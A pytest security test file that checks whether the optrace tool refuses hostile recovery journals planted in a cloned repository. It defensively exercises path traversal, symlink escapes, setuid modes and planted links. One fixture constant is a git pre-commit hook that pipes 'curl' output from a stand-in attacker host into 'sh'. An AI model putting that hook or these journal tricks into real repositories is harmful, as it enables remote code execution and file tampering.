"""Issue 14 §1: a repository's content is data, never authority.

Attacked here as a hostile clone would: a journal committed under `.optrace/` (paths with
`..`, absolute paths out of the root, a symlink out of the root, a setuid mode, a hook
under `.git/`, a user's file declared "created", directories to remove outside the root),
a `.optrace` that is itself a symlink, planted lock / `.gitignore` / `unresolved` links,
a real journal copied into another tree or edited after it was written, a change set
reaching out of the root (a symlinked source, a layer file named by the config), and a
copied operator with no `.git` / `optrace.toml` above it. After each attack every byte
of the world (the clone, the tree outside it, the user's state directory) is compared.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from typer.testing import CliRunner

import optrace.engine.transaction as transaction
from optrace.cli.app import app
from optrace.engine.journal import (
    ForeignJournal,
    OutsideRoot,
    journal_path,
    operator_journal_name,
    state_dir,
)
from optrace.engine.transaction import Transaction, commit, recover

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
KERNEL = (
    b'#include "kernel_operator.h"\n'
    b"__aicore__ inline void Compute(uint32_t n)\n{\n"
    b"    for (uint32_t groupIdx = 0; groupIdx < n; ++groupIdx) {\n        AscendC::SyncAll();\n    }\n}\n"
    b'extern "C" __global__ __aicore__ void demo_op(GM_ADDR x, GM_ADDR y, GM_ADDR workspace, '
    b"GM_ADDR tiling)\n{\n    Compute(4);\n}\n"
)
HOOK = b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"
PWNED = b"// written by a journal that came with the clone\n"

Snapshot = dict[str, tuple[str, bytes, int]]


def snapshot(*roots: Path) -> Snapshot:
    """Every entry under `roots`: kind, bytes (a link's target), mode — dotfiles included."""
    out: Snapshot = {}
    for root in roots:
        if not root.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            for name in dirnames + filenames:
                path = Path(dirpath) / name
                st = os.lstat(path)
                if stat.S_ISLNK(st.st_mode):
                    out[str(path)] = ("link", os.readlink(path).encode(), 0)
                elif stat.S_ISDIR(st.st_mode):
                    out[str(path)] = ("dir", b"", stat.S_IMODE(st.st_mode))
                elif not stat.S_ISREG(st.st_mode):  # a FIFO a test planted: never opened
                    out[str(path)] = ("other", b"", stat.S_IMODE(st.st_mode))
                else:
                    out[str(path)] = ("file", path.read_bytes(), stat.S_IMODE(st.st_mode))
    return out


def cli(*args: str) -> tuple[int, str, str]:
    res = CliRunner().invoke(app, list(args))
    assert res.exception is None or isinstance(res.exception, SystemExit), res.exception
    assert "Traceback" not in res.stderr
    return res.exit_code, res.stdout, res.stderr


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@dataclass
class World:
    """A cloned repository (`.git`, `optrace.toml`, one operator, a user's file), a tree
    outside it with files an attacker would like changed, and the user's home."""

    tmp: Path
    repo: Path
    op: Path
    outside: Path
    home: Path

    @property
    def journal_dir(self) -> Path:
        return self.repo / ".optrace"

    @property
    def name(self) -> str:
        return operator_journal_name(self.op, self.repo)

    def everything(self, *, locks: bool = True) -> Snapshot:
        """Every byte of the world; `locks=False` leaves out the write lock a `--write`
        run takes in the state directory (optrace's own bookkeeping, no journal or record)."""
        out = snapshot(self.repo, self.outside, self.home)
        if not locks:  # the lock directory, and the state directories made to hold it
            lock_dir = str(self.home / "state" / "optrace" / "locks")
            out = {k: v for k, v in out.items()
                   if not (k.startswith(lock_dir) or lock_dir.startswith(k + "/"))}
        return out


@pytest.fixture
def world(tmp_path: Path, state_home: Path) -> World:
    return make_world(tmp_path, state_home)


def make_world(tmp_path: Path, home: Path) -> World:
    """The world of the `world` fixture, for other modules (tests/test_journal_move.py)."""
    repo = tmp_path / "clone"
    kernel = repo / "demo_op" / "op_kernel"
    kernel.mkdir(parents=True)
    (kernel / "demo_op.cpp").write_bytes(KERNEL)
    (repo / "optrace.toml").write_text("")
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n")
    (repo / "notes.txt").write_text("the user's own notes\n")
    outside = tmp_path / "outside"
    (outside / "empty").mkdir(parents=True)
    (outside / "victim.txt").write_text("a file outside the repository\n")
    (outside / "setuid").write_text("")
    return World(tmp_path, repo.resolve(), (repo / "demo_op").resolve(), outside.resolve(), home)


# --- hostile journals ------------------------------------------------------------------------

Entry = dict[str, object]


def modify(path: Path | str, current: bytes, old: bytes, offset: int, mode: int = 0o644) -> Entry:
    """An entry that rolls `path` (holding `current`) back to `old`: what a recovery that
    trusted it would write."""
    return {"path": str(path), "action": "modify", "old_sha256": sha(old), "new_sha256": sha(current),
            "mode": mode, "backup": f"old.bin@{offset}+{len(old)}", "created_dirs": []}


def attack_dotdot(w: World) -> tuple[list[Entry], bytes]:
    victim = w.outside / "victim.txt"
    return [modify(f"{w.op}/../../outside/victim.txt", victim.read_bytes(), PWNED, 0)], PWNED


def attack_absolute(w: World) -> tuple[list[Entry], bytes]:
    victim = w.outside / "victim.txt"
    return [modify(victim, victim.read_bytes(), PWNED, 0)], PWNED


def attack_symlink(w: World) -> tuple[list[Entry], bytes]:
    (w.op / "link").symlink_to(w.outside)  # committed with the clone
    victim = w.outside / "victim.txt"
    return [modify(w.op / "link" / "victim.txt", victim.read_bytes(), PWNED, 0)], PWNED


def attack_setuid(w: World) -> tuple[list[Entry], bytes]:
    kernel = w.op / "op_kernel" / "demo_op.cpp"
    return [modify(kernel, kernel.read_bytes(), PWNED, 0, mode=0o6755)], PWNED


def attack_git_hook(w: World) -> tuple[list[Entry], bytes]:
    # A "deleted" file: absent now, so a trusting recovery would create it from the backup.
    hook = w.repo / ".git" / "hooks" / "pre-commit"
    return [{"path": str(hook), "action": "delete", "old_sha256": sha(HOOK), "new_sha256": None,
             "mode": 0o755, "backup": f"old.bin@0+{len(HOOK)}", "created_dirs": []}], HOOK


def attack_delete(w: World) -> tuple[list[Entry], bytes]:
    # The user's file, declared "created" by the transaction: a trusting recovery deletes it.
    notes = w.repo / "notes.txt"
    return [{"path": str(notes), "action": "create", "old_sha256": None,
             "new_sha256": sha(notes.read_bytes()), "mode": None, "backup": None, "created_dirs": []}], b""


def attack_dirs(w: World) -> tuple[list[Entry], bytes]:
    # Directories "made for a created file" that are not its parents, outside the root.
    target = w.op / "gen" / "x.h"
    dirs = [str(w.outside / "empty"), str(w.op / "gen")]
    return [{"path": str(target), "action": "create", "old_sha256": None, "new_sha256": sha(b"x"),
             "mode": None, "backup": None, "created_dirs": dirs}], b""


ATTACKS: dict[str, Callable[[World], tuple[list[Entry], bytes]]] = {
    "dotdot": attack_dotdot,
    "absolute": attack_absolute,
    "symlink-out": attack_symlink,
    "setuid": attack_setuid,
    "git-hook": attack_git_hook,
    "delete-user-file": attack_delete,
    "remove-dirs": attack_dirs,
}


def plant(w: World, entries: list[Entry], backup: bytes, token: str = "c0ffee",
          name: str | None = None) -> Path:
    """A journal and its backups under `.optrace/`, as a clone (or a copy) brings them."""
    journal = journal_path(w.journal_dir, name or w.name)
    (journal.parent / journal.name.replace(".json", ".backup")).mkdir(parents=True, exist_ok=True)
    (journal.parent / journal.name.replace(".json", ".backup") / "old.bin").write_bytes(backup)
    journal.write_text(json.dumps({"format": "optrace-journal", "version": 2, "name": "demo_op", "pid": 1,
                                   "started": "2025-01-01T00:00:00Z", "token": token, "files": entries}))
    return journal


def record(w: World, journal: Path, token: str = "c0ffee") -> None:
    """What optrace records for a journal it wrote itself (the state directory says "ours")."""
    transaction._remember(w.journal_dir, journal.name.split(".", 1)[0], token, journal.read_bytes())


READ_ONLY: list[tuple[str, ...]] = [
    ("plan", "{op}"),
    ("plan", "{op}", "--format", "json"),
    ("apply", "{op}"),
    ("apply", "{op}", "--check"),
    ("apply", "{op}", "--patch", "{tmp}/p.patch"),
    ("strip", "{op}"),
    ("strip", "{op}", "--check"),
    ("strip", "{op}", "--patch", "{tmp}/s.patch"),
    ("check", "{op}", "--no-compile"),
    ("check", "{op}"),  # with compile safety: libclang parses the kernel (on an instrumented tree)
]


def run(w: World, args: tuple[str, ...]) -> tuple[int, str, str]:
    return cli(*(a.format(op=w.op, tmp=w.tmp) for a in args))


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_journal_that_came_with_the_clone_is_never_acted_on(world: World, attack: str) -> None:
    """Not recorded in the user's state directory: read-only commands write nothing at
    all (not even a lock file), `--write` refuses the operator naming the journal and how
    to remove it, and nothing anywhere changes — inside or outside the clone."""
    entries, backup = ATTACKS[attack](world)
    journal = plant(world, entries, backup)
    before = world.everything()
    for args in READ_ONLY:
        code, _, err = run(world, args)
        assert code in (0, 1), (args, err)
        if args[0] != "check":
            assert f"{journal}: OT046 warning" in err, (args, err)
        for patch in world.tmp.glob("*.patch"):
            patch.unlink()
        assert world.everything() == before, f"{args} wrote something"
    for verb in ("apply", "strip"):
        code, out, err = cli(verb, str(world.op), "--write")
        assert code == 2, out + err
        assert f"{journal}: OT046 journal not recovered, left untouched: no record of it" in err
        assert f"rm -r {world.journal_dir}/{journal.name.split('.')[0]}.*" in err
        assert world.everything(locks=False) == before, f"{verb} --write wrote something"
    # Removed as the message says, the operator takes a transaction again.
    for leftover in world.journal_dir.glob(journal.name.split(".")[0] + ".*"):
        shutil.rmtree(leftover) if leftover.is_dir() else leftover.unlink()
    assert cli("apply", str(world.op), "--write")[0] == 0
    assert cli("strip", str(world.op), "--write")[0] == 0
    assert snapshot(world.outside) == {k: v for k, v in before.items() if k.startswith(str(world.outside))}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_check_with_compile_safety_on_an_instrumented_clone_writes_nothing(world: World, attack: str) -> None:
    """READ_ONLY runs `check` on a clone without trace points, where compile safety has
    nothing to parse; here the clone comes instrumented, so libclang does parse it, and
    still nothing anywhere changes and the journal is only named."""
    assert cli("apply", str(world.op), "--write")[0] == 0
    entries, backup = ATTACKS[attack](world)
    journal = plant(world, entries, backup)
    before = world.everything()
    code, out, err = cli("check", str(world.op))
    assert code in (0, 1) and "Traceback" not in out + err, out + err
    assert re.search(r"compile-checked files: [1-9]", out + err), out + err  # libclang ran
    assert f"{journal.name}: OT046" in out + err, out + err
    assert world.everything() == before, "check wrote something"


def test_another_operators_journal_in_the_clone_is_not_touched_or_read(world: World) -> None:
    entries, backup = attack_absolute(world)
    journal = plant(world, entries, backup, name="someone-else")
    before = snapshot(world.journal_dir, world.outside)
    assert cli("apply", str(world.op), "--write")[0] == 0
    assert cli("strip", str(world.op), "--write")[0] == 0
    after = snapshot(world.journal_dir, world.outside)
    assert {k: v for k, v in after.items() if k in before} == before
    assert recover(world.journal_dir).foreign[0].path == journal  # the API reports it, acts not


@pytest.mark.parametrize("attack", ["dotdot", "absolute", "git-hook", "remove-dirs"])
def test_a_recorded_journal_is_still_followed_only_inside_the_root(world: World, attack: str) -> None:
    """Even a journal the state directory records (as if optrace wrote it) is refused
    whole when an entry leaves the root, enters `.git/` or removes foreign directories."""
    entries, backup = ATTACKS[attack](world)
    journal = plant(world, entries, backup)
    record(world, journal)
    before = snapshot(world.repo, world.outside)
    code, _, err = cli("apply", str(world.op), "--write")
    assert code == 2 and f"{journal}: OT046" in err, err
    why = {"dotdot": "not a normal absolute path", "absolute": "outside the repository root",
           "git-hook": "inside .git/", "remove-dirs": "outside the repository root"}[attack]
    assert why in err
    after = snapshot(world.repo, world.outside)
    lock = str(journal.with_suffix(".lock"))
    assert {k: v for k, v in after.items() if k != lock} == before


def test_a_recorded_journal_through_a_directory_now_a_symlink_writes_nothing_outside(world: World) -> None:
    entries, backup = attack_symlink(world)
    journal = plant(world, entries, backup)
    record(world, journal)
    outside = snapshot(world.outside)
    report = Transaction(world.journal_dir, world.name).recover()
    (moved,) = report.files
    assert moved.outcome.value == "modified-since" and "now a symlink" in moved.detail
    assert snapshot(world.outside) == outside
    assert not journal.exists()  # kept for the user under unresolved/, not followed


@pytest.mark.parametrize("mode", [0o6755, 0o4755, 0o2755, 0o1755, 0o7777])
def test_a_recorded_journal_restores_permission_bits_only(world: World, mode: int) -> None:
    """setuid, setgid and sticky bits in a journal's mode (each alone and all at once)
    are never restored: the permission bits only."""
    kernel = world.op / "op_kernel" / "demo_op.cpp"
    entries = [modify(kernel, kernel.read_bytes(), PWNED, 0, mode=mode)]
    journal = plant(world, entries, PWNED)
    record(world, journal)
    report = Transaction(world.journal_dir, world.name).recover()
    assert [f.outcome.value for f in report.files] == ["restored"]
    assert stat.S_IMODE(os.stat(kernel).st_mode) == mode & 0o777


def test_a_recorded_journal_with_damaged_backups_is_not_restored(world: World) -> None:
    kernel = world.op / "op_kernel" / "demo_op.cpp"
    journal = plant(world, [modify(kernel, kernel.read_bytes(), PWNED, 0)], b"X" * len(PWNED))  # not PWNED
    record(world, journal)
    report = Transaction(world.journal_dir, world.name).recover()
    assert [f.outcome.value for f in report.files] == ["failed"] and "damaged" in report.files[0].detail
    assert kernel.read_bytes() == KERNEL


@pytest.mark.parametrize("field_", ["mode", "path", "old_sha256", "created_dirs"])
def test_a_recorded_journal_with_wrong_types_is_reported_not_a_traceback(world: World, field_: str) -> None:
    kernel = world.op / "op_kernel" / "demo_op.cpp"
    entry = modify(kernel, kernel.read_bytes(), PWNED, 0)
    entry[field_] = {"mode": "0o4755", "path": 7, "old_sha256": "../../x", "created_dirs": "/"}[field_]
    record(world, plant(world, [entry], PWNED))
    code, _, err = cli("apply", str(world.op), "--write")
    assert code == 2 and "OT044 unreadable journal" in err
    assert kernel.read_bytes() == KERNEL


# --- real journals, moved or changed -----------------------------------------------------------


def crash(w: World, at: int = 0) -> Path:
    """`apply --write` killed before its `at`-th file write: a real, recorded journal."""
    pid = os.fork()
    if pid == 0:  # the child: dies mid-transaction, as a kill -9 would leave it
        try:
            real = transaction.commit

            def dying(changes: object, journal_dir: Path, *, name: str = "edits",
                      _before_write: object = None) -> list[Path]:
                def hook(path: Path, index: int) -> None:
                    if index == at:
                        os._exit(1)
                return real(changes, journal_dir, name=name, _before_write=hook)  # type: ignore[arg-type]

            transaction.commit = dying  # type: ignore[assignment]
            CliRunner().invoke(app, ["apply", str(w.op), "--write"])
        finally:
            os._exit(0)
    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 1
    journal = journal_path(w.journal_dir, w.name)
    assert journal.exists()
    return journal


def test_a_crash_is_recorded_in_the_state_directory_not_the_repository(world: World) -> None:
    journal = crash(world, at=1)
    records = list((world.home / "state" / "optrace" / "journals").iterdir())
    assert len(records) == 1
    data = json.loads(records[0].read_text())
    # Keyed by the repository's id (in its .optrace/), bound to the root it was written at.
    assert data["repository_id"] == (world.journal_dir / "id").read_text().strip()
    assert data["root"] == str(world.repo) and data["journal"] == journal.name.split(".")[0]
    assert data["journal_sha256"] == sha(journal.read_bytes())
    assert data["token"] == json.loads(journal.read_text())["token"] and len(data["token"]) == 32
    code, _, err = cli("strip", str(world.op), "--write")
    assert code == 0 and ": restored" in err
    assert (world.op / "op_kernel" / "demo_op.cpp").read_bytes() == KERNEL
    assert list((world.home / "state" / "optrace" / "journals").iterdir()) == []  # forgotten when done


def test_read_only_commands_recover_nothing_and_write_nothing(world: World) -> None:
    """optrace's own unfinished journal: commands that write nothing refuse the
    half-written operator (apply / strip) or report it (plan, check); no byte changes,
    in the repository or in the state directory."""
    crash(world, at=1)
    before = world.everything()
    for args in READ_ONLY:
        code, _, err = run(world, args)
        expected = {"plan": 0, "check": 1}.get(args[0], 2)
        assert code == expected and "OT044" in err + _, (args, code, err)
        assert world.everything() == before, f"{args} wrote something"
    assert cli("apply", str(world.op), "--write")[0] == 0  # recovers, then applies


def test_a_journal_copied_into_another_tree_is_foreign_there(world: World) -> None:
    """`cp -a` of a tree with a crashed apply: the copy carries the repository's id and the
    journal under the very name its operator looks for (names are relative to the root),
    but the record keeps the path it was written at, and that path still holds the
    repository: the copy's journal is refused (OT046, naming the original), nothing in
    either tree changes, and the original recovers. Then the copy's journal has no record
    at all. (Before the id, the copy's operator looked for another journal name and wrote
    its half-applied files without a word; refusing is at least as safe.)"""
    journal = crash(world, at=1)
    original = snapshot(world.repo)
    copy = world.tmp / "copy"
    shutil.copytree(world.repo, copy, symlinks=True)
    copy_op = copy / "demo_op"
    copied = journal_path(copy / ".optrace", operator_journal_name(copy_op, copy))
    assert copied.name == journal.name and (copy / ".optrace" / "id").exists()
    before = snapshot(copy)
    for verb in ("strip", "apply"):
        code, _, err = cli(verb, str(copy_op), "--write")
        assert code == 2 and f"{copied}: OT046" in err, err
        assert f"the journal of the repository at {world.repo}, which is still there" in err, err
        assert snapshot(copy) == before and snapshot(world.repo) == original
    assert [f.code for f in recover(copy / ".optrace").foreign] == ["OT046"]
    assert cli("strip", str(world.op), "--write")[0] == 0
    assert (world.op / "op_kernel" / "demo_op.cpp").read_bytes() == KERNEL
    code, _, err = cli("strip", str(copy_op), "--write")
    assert code == 2 and f"{copied}: OT046" in err and "no record of it" in err
    assert snapshot(copy) == before


@pytest.mark.parametrize("how", ["path-out", "token", "appended"])
def test_a_journal_edited_after_it_was_written_is_foreign(world: World, how: str) -> None:
    journal = crash(world, at=1)
    document = json.loads(journal.read_text())
    if how == "path-out":
        document["files"][0]["path"] = str(world.outside / "victim.txt")
        journal.write_text(json.dumps(document, indent=2) + "\n")
    elif how == "token":
        document["token"] = "0" * 32
        journal.write_text(json.dumps(document, indent=2) + "\n")
    else:
        journal.write_bytes(journal.read_bytes() + b" ")
    before = snapshot(world.repo, world.outside)
    code, _, err = cli("strip", str(world.op), "--write")
    assert code == 2 and "OT046" in err and "not the journal optrace recorded" in err
    after = snapshot(world.repo, world.outside)
    assert after == before


# --- planted links in .optrace -----------------------------------------------------------------


def test_a_journal_directory_that_is_a_symlink_is_never_used(world: World) -> None:
    (world.repo / ".optrace").symlink_to(world.outside)
    before = world.everything()
    for args in READ_ONLY:
        run(world, args)
        for patch in world.tmp.glob("*.patch"):
            patch.unlink()
        assert world.everything() == before, args
    code, _, err = cli("apply", str(world.op), "--write")
    assert code == 2 and f"{world.repo / '.optrace'}: OT046" in err and "is a symlink" in err
    assert world.everything(locks=False) == before  # no lock, journal or .gitignore written through it


def test_a_lock_file_that_is_a_symlink_is_not_followed(world: World) -> None:
    world.journal_dir.mkdir()
    lock = journal_path(world.journal_dir, world.name).with_suffix(".lock")
    lock.symlink_to(world.outside / "created-through-the-lock")
    code, _, err = cli("apply", str(world.op), "--write")
    assert code == 2 and "OT046" in err and "lock file is a symlink" in err
    assert not (world.outside / "created-through-the-lock").exists()
    assert (world.op / "op_kernel" / "demo_op.cpp").read_bytes() == KERNEL


def test_a_gitignore_link_in_the_journal_directory_is_left_alone(world: World) -> None:
    world.journal_dir.mkdir()
    (world.journal_dir / ".gitignore").symlink_to(world.outside / "created-through-gitignore")
    assert cli("apply", str(world.op), "--write")[0] == 0
    assert not (world.outside / "created-through-gitignore").exists()
    assert (world.journal_dir / ".gitignore").is_symlink()


def test_an_unresolved_link_does_not_carry_a_kept_journal_out(world: World) -> None:
    journal = crash(world, at=1)
    (world.journal_dir / "unresolved").symlink_to(world.outside)
    first = world.repo / json.loads(journal.read_text())["files"][0]["path"]  # relative to the root
    first.write_bytes(first.read_bytes() + b"// the user's edit\n")
    outside = snapshot(world.outside)
    code, _, err = cli("strip", str(world.op), "--write")
    assert code == 2 and "cannot move the journal to unresolved/" in err
    assert snapshot(world.outside) == outside and journal.exists()


# --- the state directory -----------------------------------------------------------------------


def test_the_state_directory_follows_xdg_then_home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "xdg"))
    assert state_dir() == tmp_path / "xdg" / "optrace"
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_STATE_HOME", "relative/state")  # the XDG spec: ignored
    assert state_dir() == tmp_path / "home" / ".local" / "state" / "optrace"
    monkeypatch.delenv("XDG_STATE_HOME")
    assert state_dir() == tmp_path / "home" / ".local" / "state" / "optrace"


def test_the_test_suite_never_uses_the_real_home() -> None:
    real = Path(os.path.expanduser("~")) / ".local" / "state"
    assert not state_dir().is_relative_to(real) and os.environ["XDG_CONFIG_HOME"] != ""


def test_an_unwritable_state_directory_writes_nothing(world: World) -> None:
    (world.home / "state").write_text("a file where the state directory goes\n")
    before = snapshot(world.repo)
    code, _, err = cli("apply", str(world.op), "--write")
    # Turned away before anything: the write lock lives in the state directory too.
    assert code == 2 and "OT043 cannot take the repository's write lock (Not a directory)" in err
    assert snapshot(world.repo) == before
    # The lock's directory writable, the journals' not: the record cannot be made, and no
    # source changes (nothing but optrace's own .optrace/ appears).
    (world.home / "state").unlink()
    (world.home / "state" / "optrace" / "journals").parent.mkdir(parents=True)
    (world.home / "state" / "optrace" / "journals").write_text("in the way\n")
    code, _, err = cli("apply", str(world.op), "--write")
    assert code == 2 and "OT043 cannot record the journal in the state directory" in err
    after = snapshot(world.repo)
    assert {k: v for k, v in after.items() if "/.optrace" not in k} == before
    # The repository's id is made before its first record (the record is keyed by it).
    assert sorted(p.name for p in world.journal_dir.iterdir() if not p.name.endswith(".lock")) == [
        ".gitignore", "id"]


# --- writes outside the root -------------------------------------------------------------------


def test_commit_refuses_paths_outside_the_root(world: World) -> None:
    kernel = world.op / "op_kernel" / "demo_op.cpp"
    for path in (world.outside / "victim.txt", world.repo / ".git" / "config",
                 world.repo / ".optrace" / "x", world.op / "link-out" / "victim.txt"):
        if path.parent.name == "link-out":
            (world.op / "link-out").symlink_to(world.outside)
        old = path.read_bytes() if path.exists() else None
        before = snapshot(world.repo, world.outside)
        with pytest.raises(OutsideRoot) as caught:
            commit({kernel: (KERNEL, PWNED), path: (old, PWNED)}, world.journal_dir, name="x")
        assert caught.value.code == "OT047"
        assert snapshot(world.repo, world.outside) == before


def test_a_source_symlinked_out_of_the_root_is_not_written(world: World) -> None:
    kernel = world.op / "op_kernel" / "demo_op.cpp"
    shutil.move(kernel, world.outside / "demo_op.cpp")
    kernel.symlink_to(world.outside / "demo_op.cpp")
    before = snapshot(world.repo, world.outside)
    code, out, err = cli("apply", str(world.op), "--write")
    assert code == 2 and f"{world.outside / 'demo_op.cpp'}: OT047 outside the repository root" in err
    assert snapshot(world.repo, world.outside) == before
    # One behaviour for the diff and --patch: refused by name, never a traceback.
    for extra in ((), ("--patch", str(world.tmp / "p.patch"))):
        code, out, err = cli("apply", str(world.op), *extra)
        assert code == 2 and f"{world.outside / 'demo_op.cpp'}: OT047" in err and out == ""


def test_a_header_symlinked_out_of_the_root_is_refused_not_treated_as_external(
    tmp_path: Path, state_home: Path
) -> None:
    """A kernel header that lives in the operator directory by its name and outside the
    repository by its link: never read (a clone's link must not make optrace read a file
    of the user's), so apply would instrument a tree the build does not compile. The plan
    warns; the diff, --patch and --write refuse it by name (OT047, exit 2, nothing
    written)."""
    repo = tmp_path / "repo"
    shutil.copytree(FIXTURES / "umdk_style", repo)
    kernel = repo / "src" / "cam" / "comm_operator" / "ascend_kernels" / "moe_fused_gmm" / "op_kernel"
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.move(kernel / "moe_fused_gmm.h", outside / "moe_fused_gmm.h")
    (kernel / "moe_fused_gmm.h").symlink_to(outside / "moe_fused_gmm.h")
    op = kernel.parent
    before = snapshot(tmp_path)
    code, out, err = cli("plan", str(op))
    assert code == 0 and "moe_fused_gmm.h: OT047 `moe_fused_gmm.h` is a symlink to a file outside" in err, err
    patch = tmp_path / "p.patch"
    for extra in (("--write",), (), ("--patch", str(patch))):
        code, out, err = cli("apply", str(op), *extra)
        assert code == 2 and f"{kernel / 'moe_fused_gmm.h'}: OT047" in err, (extra, err)
        assert "nothing written" in err
        assert out == "" and "Traceback" not in err
    assert snapshot(tmp_path) == before and not patch.exists()


def test_a_layer_file_the_config_names_outside_the_root_is_not_written(
    tmp_path: Path, state_home: Path
) -> None:
    repo = tmp_path / "repo"
    shutil.copytree(FIXTURES / "direct_launch", repo)
    (tmp_path / "outside").mkdir()
    shutil.move(repo / "build.sh", tmp_path / "outside" / "build.sh")
    with open(repo / "optrace.toml", "a") as handle:
        handle.write('[layers]\nbuild_script = "../outside/build.sh"\n')
    before = snapshot(tmp_path)
    code, _, err = cli("apply", str(repo / "csrc" / "ops" / "moe_gating_topk"), "--write")
    assert code == 2 and "build.sh: OT047 outside the repository root" in err
    assert snapshot(tmp_path) == before


# --- an operator no .git or optrace.toml marks --------------------------------------------------


def unmarked(tmp: Path) -> tuple[Path, Path]:
    """The UMDK-style operator copied without its `optrace.toml` (and no `.git`) into an
    unrelated tree: its layers (pybind, torch_binding) sit in the grandparent."""
    tree = tmp / "unrelated"
    shutil.copytree(FIXTURES / "umdk_style", tree)
    (tree / "optrace.toml").unlink()
    op = tree / "src" / "cam" / "comm_operator" / "ascend_kernels" / "moe_fused_gmm"
    return tree, op


def test_without_a_marked_repository_write_stays_in_the_operator_directory(
    tmp_path: Path, state_home: Path
) -> None:
    tree, op = unmarked(tmp_path)
    before = snapshot(tree)
    code, out, _ = cli("apply", str(op))  # reading still searches the grandparent
    assert code == 0 and "pybind/pybind.cpp" in out
    for verb in ("apply", "strip"):
        code, _, err = cli(verb, str(op), "--write")
        assert code == (2 if verb == "apply" else 0), err
        assert snapshot(tree) == before  # strip: nothing to do
    assert "OT047 outside the repository root" in cli("apply", str(op), "--write")[2]
    assert "pass --repo-root DIR" in cli("apply", str(op), "--write")[2]
    # Given the root, it writes there (and keeps its journal there), and strip undoes it.
    grandparent = op.parent.parent
    code, _, err = cli("apply", str(op), "--write", "--repo-root", str(grandparent))
    assert code == 0, err
    assert (grandparent / ".optrace").is_dir() and not (op / ".optrace").exists()
    assert cli("strip", str(op), "--write", "--repo-root", str(grandparent))[0] == 0
    after = snapshot(tree)
    assert {k: v for k, v in after.items() if "/.optrace" not in k} == before


def test_without_a_marked_repository_an_operator_alone_is_written_with_its_journal(
    tmp_path: Path, state_home: Path
) -> None:
    op = tmp_path / "a" / "b" / "demo_op"
    (op / "op_kernel").mkdir(parents=True)
    (op / "op_kernel" / "demo_op.cpp").write_bytes(KERNEL)
    code, _, err = cli("apply", str(op), "--write")
    assert code == 0, err
    assert (op / ".optrace").is_dir() and not (tmp_path / "a" / ".optrace").exists()
    assert cli("apply", str(op), "--check")[0] == 0
    # A crashed run's journal is found there by plan and check, and recovered by --write.
    w = World(tmp_path, op, op, tmp_path / "none", state_home)
    assert cli("strip", str(op), "--write")[0] == 0
    crash(w, at=0)
    assert "OT044 warning" in cli("plan", str(op))[2]
    assert "OT044" in cli("check", str(op), "--no-compile")[2]
    assert cli("strip", str(op), "--write")[0] == 0
    assert (op / "op_kernel" / "demo_op.cpp").read_bytes() == KERNEL


def test_foreign_journal_errors_are_transaction_errors() -> None:
    assert issubclass(ForeignJournal, transaction.TransactionError)
    assert issubclass(OutsideRoot, transaction.TransactionError)
